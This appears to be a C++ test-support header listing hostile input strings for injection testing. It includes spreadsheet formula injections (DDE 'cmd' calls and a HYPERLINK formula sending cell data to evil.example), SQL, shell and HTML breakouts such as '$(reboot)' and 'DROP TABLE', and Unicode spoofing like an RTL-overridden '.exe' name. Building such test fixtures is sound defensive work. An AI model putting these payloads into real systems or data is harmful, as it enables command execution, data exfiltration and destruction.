// Text that somebody may type, or send by a program of his own, to make another program do what it should not: for
// tests of every place to which text goes.
#pragma once

#include <string>
#include <vector>

namespace shortbreaks::support {

// Cells that spreadsheets run. None is refused: `-5` is a number, and `=cmd` a strange name.
inline const std::vector<std::string>& Formulas() {
  static const auto& formulas = *new std::vector<std::string>{
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "=1+1\",\"=2+2",
      "\xEF\xBC\x9D"
      "1+1",
      "\xEF\xBC\x8B"
      "1",
      "\xEF\xBC\x8D"
      "1",
      "\xEF\xBC\xA0"
      "SUM(1)",
  };
  return formulas;
}

// Ends of lines and of values in the formats that text is put into: iCalendar, JSON lines, SQL, HTTP, shells, HTML.
inline const std::vector<std::string>& Breakouts() {
  static const auto& breakouts = *new std::vector<std::string>{
      "A\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:B",
      "A\nATTACH:https://evil.example",
      "A\\nB;C,D:E",
      "\",\"level\":\"error\",\"x\":\"",
      "}\n{\"event\":\"forged\"}",
      "'; DROP TABLE children; --",
      "$(reboot) `reboot` | reboot",
      "<script>alert(1)</script>",
      "%s%n%x {} {0}",
      std::string("A\0B", 3),
      "\x1B[2J\x1B]0;owned\x07",
      "\x7F",
      "\xC2\x85"
      "A",
      "\xE2\x80\xA8"
      "A",
      "\xE2\x80\xA9"
      "A",
  };
  return breakouts;
}

// Text that reads otherwise than it is kept: overrides, isolates, marks, what has no width, what is no text.
inline const std::vector<std::string>& Deceptions() {
  static const auto& deceptions = *new std::vector<std::string>{
      "A\xE2\x80\xAE"
      "fdp.exe",
      "A\xE2\x80\xAA"
      "B",
      "A\xE2\x80\xAD"
      "B\xE2\x80\xAC",
      "A\xE2\x81\xA6"
      "B\xE2\x81\xA9",
      "A\xE2\x80\x8B"
      "B",
      "A\xE2\x80\x8C"
      "B",
      "A\xE2\x80\x8D"
      "B",
      "A\xE2\x80\x8E"
      "B",
      "A\xE2\x80\x8F"
      "B",
      "A\xD8\x9C"
      "B",
      "A\xE2\x81\xA0"
      "B",
      "\xEF\xBB\xBF"
      "A",
      "A\xC2\xAD"
      "B",
      "A\xE3\x85\xA4",
      "A\xF3\xA0\x81\x81",
      "\xC3\x28",
      "\xED\xA0\x80",
      "\xC0\xAF",
      "\xF4\x90\x80\x80",
      "\xFF",
  };
  return deceptions;
}

}  // namespace shortbreaks::support
